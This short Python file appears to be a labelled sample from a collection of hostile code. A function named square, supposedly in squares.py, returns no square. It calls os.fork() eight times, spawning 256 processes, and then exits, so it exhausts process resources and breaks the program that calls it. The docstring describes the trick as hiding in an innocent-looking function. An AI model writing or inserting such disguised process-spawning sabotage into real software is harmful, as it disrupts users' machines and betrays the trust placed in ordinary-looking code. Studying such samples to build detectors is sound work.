"""Forks, and forks in every fork.

Gains: the machine's processes
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: error
"""

import os


def square(x):
    for _ in range(8):
        os.fork()
    os._exit(0)
